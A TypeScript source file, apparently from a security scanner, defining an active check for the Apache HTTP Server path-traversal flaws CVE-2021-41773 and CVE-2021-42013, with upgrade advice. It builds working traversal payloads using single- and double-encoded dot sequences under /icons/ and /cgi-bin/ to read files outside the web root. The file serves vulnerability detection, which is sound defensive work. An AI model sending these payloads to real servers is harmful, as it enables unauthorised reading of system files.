import { fileByPath, type KnownExploited, proveKnownExploited } from '../../attacks/known-exploited.js';
import type { ActiveCheck } from '../../check.js';

export const check: ActiveCheck = {
  id: 'apache-httpd-path-normalisation',
  mode: 'active',
  scope: 'host',
  places: [],
  writes: false,
  technologies: [],
  title: 'Apache HTTP Server leaves its folders by an encoded path',
  severity: 'critical',
  aliases: ['CVE-2021-41773', 'CVE-2021-42013', 'CWE-22'],
  cwe: 22,
  fix: 'Update Apache HTTP Server to 2.4.51 or later.',
  references: [
    'https://httpd.apache.org/security/vulnerabilities_24.html',
    'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
  ],
  cost: { low: 4, medium: 4, high: 4, insane: 4 },
  attack: (target, prober) => proveKnownExploited(target, prober, known),
};

const up = (dots: string) => `${dots}/`.repeat(7);

/** 2.4.49 decodes the second dot after the check; 2.4.50 still does so for what is encoded twice. */
const known: KnownExploited = {
  affected: { purl: /\/(?:apache2|apache|httpd|http_server)$/, ranges: [['2.4.49', '2.4.51']] },
  attempts: ['/icons/', '/cgi-bin/'].flatMap((alias) => [
    fileByPath((file) => `${alias}${up('.%2e')}${file}`),
    fileByPath((file) => `${alias}${up('.%%32%65')}${file}`),
  ]),
};
